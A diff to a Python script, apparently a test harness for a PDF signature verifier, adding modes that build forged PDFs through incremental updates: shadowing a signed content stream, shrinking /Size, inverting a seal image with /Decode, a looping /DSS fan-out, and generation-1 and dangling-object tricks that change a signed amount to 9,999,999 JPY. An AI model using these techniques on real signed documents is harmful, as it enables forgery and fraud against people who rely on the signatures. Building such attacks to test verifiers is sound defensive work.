@@ -14,14 +14,36 @@
 #   contents-moved  incremental update redefining the signature dictionary with its /Contents value outside
 #                   the ByteRange gap (signature wrapping)
 #   no-contents     incremental update redefining the signature dictionary without /Contents (USF)
+#   size-shrink     shadow-replace with the final trailer's /Size set to 1 (a verifier that compares objects up to
+#                   the final /Size, which the attacker writes, compares none)
+#   stream-dict     incremental update adding /Decode [1 0 1 0 1 0] to the first image XObject (a visible seal's
+#                   stamp): the stream's data are unchanged, its dictionary inverts the picture
+#   dss-fanout      incremental update adding a /DSS whose /Certs names the page's content stream and font,
+#                   redefined as arrays of 3000 references to each other (a verifier walking DSS data without a
+#                   visited set or budget never finishes)
+#   gen1-prepare    (not an attack: makes the file to seal) an update adding a content stream to page 1 as
+#                   object N generation 1, with the text of argument 4 (default "Amount: 1,000 JPY")
+#   gen1-redefine   incremental update redefining that generation-1 content stream (found as 'N 1 obj')
+#   gen1-renumber   incremental update writing a new content stream as 'N 0 obj' (the number of that generation-1
+#                   object): QPDF and Poppler still read 'N 1 R' as signed, Ghostscript draws the new one
+#   dangling-prepare  (not an attack: makes the file to seal) page 1's /Contents also names an object that is
+#                   not defined (a reader draws nothing for it)
+#   dangling-define incremental update defining that object (found as the last reference in page 1's /Contents)
 import re
 import subprocess
 import sys
 
 
+def qpdf_run(*args):
+    """qpdf's output; exit status 3 (warnings, e.g. a reference to an undefined object) is not an error."""
+    p = subprocess.run(["qpdf"] + list(args), capture_output=True)
+    if p.returncode not in (0, 3):
+        raise subprocess.CalledProcessError(p.returncode, p.args, p.stdout, p.stderr)
+    return p.stdout
+
+
 def qpdf_obj(path, spec):
-    return subprocess.run(["qpdf", "--show-object=" + spec, path], check=True, capture_output=True).stdout.decode(
-        "latin-1").strip()
+    return qpdf_run("--show-object=" + spec, path).decode("latin-1").strip()
 
 
 def last_startxref(data):
@@ -37,29 +59,31 @@ def sig_object_id(path):
 
 
 def page1(path):
-    out = subprocess.run(["qpdf", "--show-pages", path], check=True, capture_output=True).stdout.decode()
+    out = qpdf_run("--show-pages", path).decode()
     page = int(re.search(r"page 1: (\d+) 0 R", out).group(1))
     content = int(re.search(r"content:\s+(\d+) 0 R", out).group(1))
     return page, content
 
 
-def append_update(data, path, objects, extra_trailer=b""):
-    """objects: {id: bytes body (without 'N 0 obj'/'endobj')}; writes a classic xref section with /Prev."""
+def append_update(data, path, objects, extra_trailer=b"", size=None):
+    """objects: {id or (id, generation): bytes body (without 'N G obj'/'endobj')}; writes a classic xref section
+    with /Prev. size: the trailer's /Size (default: what the objects need)."""
     trailer = qpdf_obj(path, "trailer")
-    size = int(re.search(r"/Size (\d+)", trailer).group(1))
+    old_size = int(re.search(r"/Size (\d+)", trailer).group(1))
     root = re.search(r"/Root (\d+ \d+ R)", trailer).group(1)
-    new_size = max([size] + [i + 1 for i in objects])
+    objects = {(k if isinstance(k, tuple) else (k, 0)): v for k, v in objects.items()}
+    new_size = size if size is not None else max([old_size] + [i + 1 for i, _ in objects])
     out = bytearray(data)
     if not out.endswith(b"\n"):
         out += b"\n"
     offsets = {}
-    for oid in sorted(objects):
-        offsets[oid] = len(out)
-        out += b"%d 0 obj\n" % oid + objects[oid] + b"\nendobj\n"
+    for oid, gen in sorted(objects):
+        offsets[oid, gen] = len(out)
+        out += b"%d %d obj\n" % (oid, gen) + objects[oid, gen] + b"\nendobj\n"
     xref = len(out)
     out += b"xref\n0 1\n0000000000 65535 f \n"
-    for oid in sorted(objects):
-        out += b"%d 1\n%010d 00000 n \n" % (oid, offsets[oid])
+    for oid, gen in sorted(objects):
+        out += b"%d 1\n%010d %05d n \n" % (oid, offsets[oid, gen], gen)
     out += b"trailer\n<< /Size %d /Root %s /Prev %d %s>>\nstartxref\n%d\n%%%%EOF\n" % (
         new_size, root.encode(), last_startxref(data), extra_trailer, xref)
     return bytes(out)
@@ -84,6 +108,23 @@ def fix_byte_range(out, sig_id, size):
     return a, b
 
 
+def text_stream(text):
+    return b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream"
+
+
+def first_image(path):
+    """The object number of the first image XObject (qpdf's JSON lists every object)."""
+    import json
+    objs = json.loads(subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", path], check=True,
+                                     capture_output=True).stdout)["qpdf"][1]
+    for key, val in sorted(objs.items(), key=lambda kv: int(kv[0].split()[0].split(":")[-1])
+                           if kv[0].startswith("obj:") else 0):
+        d = val.get("stream", {}).get("dict", {}) if isinstance(val, dict) else {}
+        if d.get("/Subtype") == "/Image":
+            return int(key.split(":")[1].split()[0])
+    sys.exit("no image XObject in " + path)
+
+
 def byte_range(data):
     m = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", data)
     return m, [int(x) for x in m.groups()]
@@ -92,7 +133,7 @@ def byte_range(data):
 def main():
     mode, src, dst = sys.argv[1:4]
     data = open(src, "rb").read()
-    m, br = byte_range(data)
+    m, br = byte_range(data) if not mode.endswith("-prepare") else (None, None)
     if mode == "flip":
         pos = data.index(b"stream", 0, br[1]) + 20
         assert pos < br[1]
@@ -106,11 +147,59 @@ def main():
         assert len(new) <= len(old)
         new = new[:-1] + b" " * (len(old) - len(new)) + b"]"
         data = data[:m.start()] + new + data[m.end():]
-    elif mode == "shadow-replace":
+    elif mode in ("shadow-replace", "size-shrink"):
         _, content = page1(src)
         text = b"BT /F1 24 Tf 40 60 Td (AMOUNT: 9,999,999 JPY) Tj ET"
-        data = append_update(data, src, {content: b"<< /Length %d >>\nstream\n" % len(text) + text +
-                                         b"\nendstream"})
+        data = append_update(data, src, {content: text_stream(text)}, size=1 if mode == "size-shrink" else None)
+    elif mode == "stream-dict":
+        img = first_image(src)
+        head = qpdf_obj(src, str(img)).encode("latin-1")
+        head = head[head.index(b"<<"):]  # qpdf says "Object is stream.  Dictionary:" first
+        raw = subprocess.run(["qpdf", "--show-object=%d" % img, "--raw-stream-data", src], check=True,
+                             capture_output=True).stdout
+        assert head.endswith(b">>") and b"/Decode" not in head
+        body = head[:-2] + b" /Decode [1 0 1 0 1 0] >>\nstream\n" + raw + b"\nendstream"
+        data = append_update(data, src, {img: body})
+    elif mode == "dss-fanout":
+        page, content = page1(src)
+        res = re.search(r"/Resources (\d+) 0 R", qpdf_obj(src, str(page)))
+        res_text = qpdf_obj(src, res.group(1)) if res else qpdf_obj(src, str(page))
+        font = int(re.search(r"/Font << /[^ ]+ (\d+) 0 R", res_text).group(1))
+        trailer = qpdf_obj(src, "trailer")
+        root = int(re.search(r"/Root (\d+) 0 R", trailer).group(1))
+        dss = int(re.search(r"/Size (\d+)", trailer).group(1))
+        cat = qpdf_obj(src, str(root)).encode("latin-1")
+        cat = cat[:-2] + b" /DSS %d 0 R >>" % dss
+        data = append_update(data, src, {root: cat, dss: b"<< /Type /DSS /Certs [ %d 0 R ] >>" % content,
+                                         content: b"[" + b" %d 0 R" % font * 3000 + b" ]",
+                                         font: b"[" + b" %d 0 R" % content * 3000 + b" ]"})
+    elif mode == "dangling-prepare":
+        page, content = page1(src)
+        n = int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1))
+        pdict = qpdf_obj(src, str(page)).encode("latin-1")
+        old = b"/Contents %d 0 R" % content
+        assert old in pdict
+        # (well past /Size, so that the sealer does not take the number for an object of its own)
+        data = append_update(data, src, {page: pdict.replace(old, b"/Contents [ %d 0 R %d 0 R ]" % (content, n + 50))})
+    elif mode == "dangling-define":
+        page, _ = page1(src)
+        n = int(re.search(rb"/Contents \[[^\]]* (\d+) 0 R \]", qpdf_obj(src, str(page)).encode()).group(1))
+        text = b"BT /F1 24 Tf 72 600 Td (Amount: 9,999,999 JPY) Tj ET"
+        data = append_update(data, src, {n: text_stream(text)})
+    elif mode == "gen1-prepare":
+        page, content = page1(src)
+        n = int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1))
+        pdict = qpdf_obj(src, str(page)).encode("latin-1")
+        old = b"/Contents %d 0 R" % content
+        assert old in pdict
+        pdict = pdict.replace(old, b"/Contents [ %d 0 R %d 1 R ]" % (content, n))
+        text = sys.argv[4].encode() if len(sys.argv) > 4 else b"Amount: 1,000 JPY"
+        data = append_update(data, src, {page: pdict, (n, 1): text_stream(b"BT /F1 24 Tf 72 600 Td (%s) Tj ET" % text)})
+    elif mode in ("gen1-redefine", "gen1-renumber"):
+        n = int(re.findall(rb"(\d+) 1 obj", data)[0])
+        text = b"BT /F1 24 Tf 72 600 Td (Amount: 9,999,999 JPY) Tj ET"
+        data = append_update(data, src, {(n, 1 if mode == "gen1-redefine" else 0): text_stream(text)},
+                             size=int(re.search(r"/Size (\d+)", qpdf_obj(src, "trailer")).group(1)))
     elif mode == "shadow-hide":
         page, _ = page1(src)
         pdict = qpdf_obj(src, str(page)).encode("latin-1")
